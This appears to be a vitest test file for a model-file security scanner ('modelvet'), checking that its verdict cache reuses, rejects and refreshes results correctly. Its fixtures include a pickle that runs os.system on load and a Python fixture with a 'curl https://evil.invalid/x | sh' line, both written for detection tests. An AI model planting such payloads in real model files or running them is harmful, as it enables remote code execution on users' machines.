import { createHash } from "node:crypto";
import { chmodSync, copyFileSync, mkdirSync, mkdtempSync, readdirSync, readFileSync, rmSync, statSync, utimesSync, writeFileSync } from "node:fs";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { fileURLToPath } from "node:url";
import { afterAll, describe, expect, it } from "vitest";
import type { FileReport, ScanReport } from "../core/finding.js";
import type { Limits } from "../core/limits.js";
import { createPolicy } from "../policy/policy.js";
import { DEFAULT_POLICY_DATA, defaultPolicy } from "../policy/default.js";
import { buildSafetensors } from "../test-support/safetensors-builder.js";
import { scanPaths } from "./scan-paths.js";
import { MAX_CACHE_ENTRIES, VerdictCache } from "./verdict-cache.js";

/** Protocol 0: `os.system('echo hi')` on load (26 bytes). */
const MALICIOUS = "cos\nsystem\n(S'echo hi'\ntR.";
/** Protocol 0: a string of the same length as MALICIOUS, harmless. */
const BENIGN_SAME_SIZE = "S'xxxxxxxxxxxxxxxxxxxxx'\n.";

const root = mkdtempSync(join(tmpdir(), "modelvet-cache-"));
afterAll(() => rmSync(root, { recursive: true, force: true }));
let counter = 0;

/** A fresh folder with these files, and a fresh cache folder beside it. */
function setup(files: Record<string, string>): { dir: string; cacheDir: string } {
  const base = join(root, String(++counter));
  const dir = join(base, "model");
  for (const [name, text] of Object.entries(files)) {
    mkdirSync(join(dir, name, ".."), { recursive: true });
    writeFileSync(join(dir, name), text, "latin1");
  }
  return { dir, cacheDir: join(base, "cache") };
}

/** Later than any stamp written so far: lets the path index record stamps without a sleep (RACY_MARGIN_MS). */
const later = (): number => Date.now() + 60_000;

async function scanWith(dir: string, cacheDir: string, options: { version?: string; policy?: ReturnType<typeof defaultPolicy>; key?: string; now?: () => number; limits?: Partial<Limits> } = {}): Promise<{ report: ScanReport; cache: VerdictCache }> {
  const policy = options.policy ?? defaultPolicy();
  const cache = await VerdictCache.open(cacheDir, { policy, limits: options.limits, version: options.version ?? "1.0.0-test", key: options.key, now: options.now ?? later });
  const report = await scanPaths([dir], { policy, limits: options.limits, cache, isolate: false });
  return { report, cache };
}

function file(report: ScanReport, name: string): FileReport {
  const found = report.files.find((f) => f.path.endsWith(`/${name}`));
  if (found === undefined) throw new Error(`no report for ${name}`);
  return found;
}

/** What a verdict is made of; cached and fresh reports must agree on all of it. */
function judged(report: FileReport): unknown {
  return { verdict: report.verdict, formats: report.formats, findings: report.findings, errors: report.errors, notes: report.notes };
}

function entries(cacheDir: string, kind: "verdicts" | "paths"): string[] {
  const dir = join(cacheDir, kind);
  return readdirSync(dir).flatMap((fan) => readdirSync(join(dir, fan)).map((name) => join(dir, fan, name)));
}

describe("scan --cache: verdicts reused for unchanged files", () => {
  it("reuses a verdict on the second run, the same as a fresh scan, and keeps an unsafe file unsafe", async () => {
    const { dir, cacheDir } = setup({ "evil.pkl": MALICIOUS, "benign.pkl": BENIGN_SAME_SIZE });
    const first = await scanWith(dir, cacheDir);
    expect(first.cache.stats).toMatchObject({ hits: 0, stored: 2 });
    expect(file(first.report, "evil.pkl").cached).toBeUndefined();
    const second = await scanWith(dir, cacheDir);
    expect(second.cache.stats).toMatchObject({ hits: 2, stored: 0 });
    for (const name of ["evil.pkl", "benign.pkl"]) {
      expect(file(second.report, name).cached).toBe(true);
      expect(judged(file(second.report, name))).toEqual(judged(file(first.report, name)));
    }
    const evil = file(second.report, "evil.pkl");
    expect(evil.verdict).toBe("unsafe");
    expect(evil.findings.map((f) => f.ruleId)).toContain("PKL001");
    expect(evil.sha256).toBe(createHash("sha256").update(MALICIOUS, "latin1").digest("hex"));
    expect(second.report.summary).toEqual(first.report.summary);
  });

  it("records neither stamp nor verdict of a file changed within RACY_MARGIN_MS, then skips hashing it once it is not racy", async () => {
    const { dir, cacheDir } = setup({ "evil.pkl": MALICIOUS });
    // Just written, by the real clock: the same clock tick could hold a second write that keeps the stamp.
    const racy = await scanWith(dir, cacheDir, { now: Date.now });
    expect(racy.cache.stats).toMatchObject({ hashed: 1, stored: 0 });
    expect(readdirSync(cacheDir)).toEqual([]);
    const settled = await scanWith(dir, cacheDir);
    expect(settled.cache.stats).toMatchObject({ hashed: 1, stored: 1 });
    const third = await scanWith(dir, cacheDir);
    expect(third.cache.stats).toMatchObject({ indexHits: 1, hashed: 0, hits: 1 });
    expect(file(third.report, "evil.pkl").verdict).toBe("unsafe");
  });

  it("rescans a file rewritten with the same size and its mtime put back (ctime moved)", async () => {
    const { dir, cacheDir } = setup({ "model.pkl": BENIGN_SAME_SIZE });
    const path = join(dir, "model.pkl");
    await scanWith(dir, cacheDir);
    const cleanRun = await scanWith(dir, cacheDir);
    expect(cleanRun.cache.stats.indexHits).toBe(1);
    expect(file(cleanRun.report, "model.pkl").verdict).toBe("clean");
    // The attack on a stamp-only cache: same size, mtime restored with utimes().
    const { atime, mtime } = statSync(path);
    writeFileSync(path, MALICIOUS, "latin1");
    utimesSync(path, atime, mtime);
    expect(statSync(path).size).toBe(MALICIOUS.length);
    const after = await scanWith(dir, cacheDir);
    expect(after.cache.stats).toMatchObject({ indexHits: 0, hashed: 1, hits: 0 });
    const report = file(after.report, "model.pkl");
    expect(report.cached).toBeUndefined();
    expect(report.verdict).toBe("unsafe");
    expect(report.findings.map((f) => f.ruleId)).toContain("PKL001");
  });

  it("misses when the policy changes", async () => {
    const { dir, cacheDir } = setup({ "evil.pkl": MALICIOUS });
    await scanWith(dir, cacheDir);
    const relaxed = createPolicy([DEFAULT_POLICY_DATA, { version: 1, rules: { PKL001: "low" } }]);
    const other = await scanWith(dir, cacheDir, { policy: relaxed });
    expect(other.cache.stats.hits).toBe(0);
    expect(file(other.report, "evil.pkl").cached).toBeUndefined();
    expect(file(other.report, "evil.pkl").findings.find((f) => f.ruleId === "PKL001")?.severity).toBe("low");
    // And back: the first policy's entry still holds.
    const again = await scanWith(dir, cacheDir);
    expect(again.cache.stats.hits).toBe(1);
    expect(file(again.report, "evil.pkl").findings.find((f) => f.ruleId === "PKL001")?.severity).toBe("critical");
  });

  it("misses when the modelvet version changes", async () => {
    const { dir, cacheDir } = setup({ "evil.pkl": MALICIOUS });
    await scanWith(dir, cacheDir, { version: "1.0.0" });
    const next = await scanWith(dir, cacheDir, { version: "1.0.1" });
    expect(next.cache.stats.hits).toBe(0);
    expect(file(next.report, "evil.pkl").cached).toBeUndefined();
  });

  it("misses when the same bytes are reported under another name (recognition takes the name as a hint)", async () => {
    const { dir, cacheDir } = setup({ "a.pkl": MALICIOUS, "b.pkl": MALICIOUS });
    const first = await scanWith(dir, cacheDir);
    expect(first.cache.stats.stored).toBe(2);
  });

  it("rescans when an entry is corrupt, truncated or forged, and never trusts it", async () => {
    const { dir, cacheDir } = setup({ "evil.pkl": MALICIOUS });
    await scanWith(dir, cacheDir);
    const [entry] = entries(cacheDir, "verdicts");
    if (entry === undefined) throw new Error("no entry written");
    const original = readFileSync(entry, "utf8");

    writeFileSync(entry, original.slice(0, original.length / 2));
    let run = await scanWith(dir, cacheDir);
    expect(run.cache.stats).toMatchObject({ hits: 0, rejected: 1 });
    expect(file(run.report, "evil.pkl").verdict).toBe("unsafe");

    // Forged: the findings taken out of the stored report, the MAC left as it was.
    const parsed = JSON.parse(original) as { payload: string };
    const payload = JSON.parse(parsed.payload) as { report: FileReport };
    payload.report.findings = [];
    payload.report.verdict = "clean";
    writeFileSync(entry, JSON.stringify({ ...parsed, payload: JSON.stringify(payload) }));
    run = await scanWith(dir, cacheDir);
    expect(run.cache.stats).toMatchObject({ hits: 0, rejected: 1 });
    expect(file(run.report, "evil.pkl").verdict).toBe("unsafe");

    writeFileSync(entry, "not json at all");
    run = await scanWith(dir, cacheDir);
    expect(file(run.report, "evil.pkl").cached).toBeUndefined();
    expect(file(run.report, "evil.pkl").verdict).toBe("unsafe");
  });

  it("with MODELVET_CACHE_KEY, ignores entries written without the key", async () => {
    const { dir, cacheDir } = setup({ "evil.pkl": MALICIOUS });
    await scanWith(dir, cacheDir);
    const keyed = await scanWith(dir, cacheDir, { key: "s3cret" });
    // Both the path-index entry and the verdict were written without the key.
    expect(keyed.cache.stats).toMatchObject({ hits: 0, rejected: 2, stored: 1 });
    expect((await scanWith(dir, cacheDir, { key: "s3cret" })).cache.stats.hits).toBe(1);
    expect((await scanWith(dir, cacheDir, { key: "other" })).cache.stats.hits).toBe(0);
  });

  it("does not cache a report with scan errors (a limit hit today may pass next time)", async () => {
    const { dir, cacheDir } = setup({ "evil.pkl": MALICIOUS });
    const limits = { maxPickleOps: 2 };
    const first = await scanWith(dir, cacheDir, { limits });
    expect(file(first.report, "evil.pkl").errors.map((e) => e.code)).toContain("limit-exceeded");
    expect(first.cache.stats.stored).toBe(0);
    const second = await scanWith(dir, cacheDir, { limits });
    expect(file(second.report, "evil.pkl").cached).toBeUndefined();
    // Limits are part of the key: the default limits' run does not see a verdict made under others.
    expect((await scanWith(dir, cacheDir)).cache.stats.hits).toBe(0);
  });

  it("keeps folder-pass results right: config.json is rescanned and tied Python judged every run", async () => {
    const { dir, cacheDir } = setup({
      "config.json": JSON.stringify({ model_type: "x", auto_map: { AutoModel: "modeling_x.XModel" } }),
      "modeling_x.py": "import os as o\no.system('curl https://evil.invalid/x | sh')\n\nclass XModel:\n    pass\n",
    });
    const first = await scanWith(dir, cacheDir);
    const second = await scanWith(dir, cacheDir);
    expect(file(second.report, "config.json").cached).toBeUndefined();
    const modeling = file(second.report, "modeling_x.py");
    expect(modeling.cached).toBe(true);
    expect(modeling.findings.filter((f) => f.ruleId === "PY001")).toHaveLength(1);
    expect(judged(modeling)).toEqual(judged(file(first.report, "modeling_x.py")));
    expect(second.report.folders).toEqual(first.report.folders);
  });

  it("scans an ONNX model every run: its verdict depends on its external data files", async () => {
    const fixtures = fileURLToPath(new URL("../../fixtures/onnx/benign/", import.meta.url));
    const { dir, cacheDir } = setup({});
    mkdirSync(dir, { recursive: true });
    for (const name of ["external_data.onnx", "external_data.weights"]) copyFileSync(join(fixtures, name), join(dir, name));
    await scanWith(dir, cacheDir);
    const second = await scanWith(dir, cacheDir);
    expect(file(second.report, "external_data.onnx").cached).toBeUndefined();
    expect(file(second.report, "external_data.weights").cached).toBe(true);
  });

  it("leaves out its own folder when it sits inside the scanned folder", async () => {
    const { dir } = setup({ "evil.pkl": MALICIOUS });
    const cacheDir = join(dir, ".modelvet-cache");
    await scanWith(dir, cacheDir);
    const second = await scanWith(dir, cacheDir);
    expect(second.report.files.map((f) => f.path.split("/").pop())).toEqual(["evil.pkl"]);
  });

  it("scans a big file whose scan reads a small share of it instead of hashing it again (cheaper), unless digests are wanted", async () => {
    // 4 MiB of tensor data; the scan reads the header, the 4 KiB head and the 64 KiB tail.
    const bytes = buildSafetensors({ tensors: [{ name: "w", dtype: "F32", shape: [1024, 1024] }], metadata: { format: "pt" } });
    const { dir, cacheDir } = setup({});
    mkdirSync(dir, { recursive: true });
    writeFileSync(join(dir, "model.safetensors"), bytes);
    const policy = defaultPolicy();
    const run = async (digests: boolean): Promise<{ report: ScanReport; cache: VerdictCache }> => {
      const cache = await VerdictCache.open(cacheDir, { policy, version: "1", now: later, cheapScanMinBytes: 1024 * 1024 });
      return { report: await scanPaths([dir], { policy, cache, digests, isolate: false }), cache };
    };
    const first = await run(false);
    expect(first.cache.stats).toMatchObject({ hashed: 1, cheapScans: 0 });
    // Unchanged and in the path index: neither hashed nor scanned.
    expect((await run(false)).cache.stats).toMatchObject({ indexHits: 1, hits: 1 });
    // A fresh checkout (same bytes, new ctime): hashing would cost more than the scan.
    writeFileSync(join(dir, "model.safetensors"), bytes);
    const second = await run(false);
    expect(second.cache.stats).toMatchObject({ hashed: 0, cheapScans: 1, hits: 0 });
    expect(judged(file(second.report, "model.safetensors"))).toEqual(judged(file(first.report, "model.safetensors")));
    expect(file(second.report, "model.safetensors").cached).toBeUndefined();
    // --format cyclonedx needs the SHA-256: the file is hashed, and the cached verdict comes with it.
    const withDigests = await run(true);
    expect(withDigests.cache.stats).toMatchObject({ cheapScans: 0, hashed: 1, hits: 1 });
    expect(file(withDigests.report, "model.safetensors").sha256).toBe(createHash("sha256").update(bytes).digest("hex"));
  });

  it("warns when others can write the cache folder", async () => {
    const { cacheDir } = setup({});
    mkdirSync(cacheDir, { recursive: true, mode: 0o777 });
    chmodSync(cacheDir, 0o777);
    const cache = await VerdictCache.open(cacheDir, { policy: defaultPolicy(), version: "1" });
    expect(cache.warnings.join("\n")).toContain("writable by other users");
    chmodSync(cacheDir, 0o700);
    expect((await VerdictCache.open(cacheDir, { policy: defaultPolicy(), version: "1" })).warnings).toEqual([]);
  });

  it("prunes the oldest-used entries past the bound", async () => {
    const { dir, cacheDir } = setup({ "a.pkl": MALICIOUS, "b.pkl": BENIGN_SAME_SIZE, "c.pkl": "(lp0\nI1\na." });
    const { cache } = await scanWith(dir, cacheDir);
    expect(MAX_CACHE_ENTRIES).toBeGreaterThan(1000);
    // One verdict and one path-index entry over the bound.
    expect(await cache.prune(2)).toBe(2);
    expect(entries(cacheDir, "verdicts")).toHaveLength(2);
    expect(entries(cacheDir, "paths")).toHaveLength(2);
  });
});
